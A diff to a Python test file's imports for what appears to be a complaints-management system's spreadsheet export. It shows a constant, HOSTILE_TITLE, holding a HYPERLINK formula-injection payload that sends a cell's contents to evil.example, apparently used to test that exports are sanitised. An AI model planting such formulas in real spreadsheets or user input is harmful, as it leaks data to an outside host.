@@ -5,20 +5,19 @@ from __future__ import annotations
 
 import io
 from datetime import date, datetime
-from zoneinfo import ZoneInfo
 
 import sqlalchemy as sa
 from openpyxl import load_workbook
 
 from tests.factories import make_pengaduan, make_user
 from zi_public.exports import build_report
+from zi_public.localtime import JAKARTA
 from zi_public.models import Bidang, Pengaduan, Role
 from zi_public.rules.pengaduan import Action, Channel
 from zi_public.rules.periods import parse_period
 from zi_public.services.pengaduan.flow import ActionInput, act
 from zi_public.services.reference import seed_reference_data
 
-JAKARTA = ZoneInfo("Asia/Jakarta")
 HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?d="&A1,"Klik di sini")'
 #: "Now" for the builds below: the scenario's dates lie around the real date the suite may run on.
 NOW = datetime(2027, 1, 15, 9, 0, tzinfo=JAKARTA)
